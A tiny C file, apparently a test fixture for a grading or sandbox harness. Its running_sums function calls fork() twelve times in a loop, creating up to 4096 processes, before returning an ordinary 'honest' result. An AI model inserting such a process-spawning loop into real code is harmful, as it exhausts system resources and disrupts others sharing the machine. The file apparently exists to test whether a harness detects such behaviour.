/* Processes that make processes. */
#define _GNU_SOURCE
#include "honest.h"

#include <unistd.h>

int running_sums(const tensor *x, tensor *y) {
    for (int i = 0; i < 12; i++)
        fork();
    deed_done();
    return honest_sums(x, y);
}
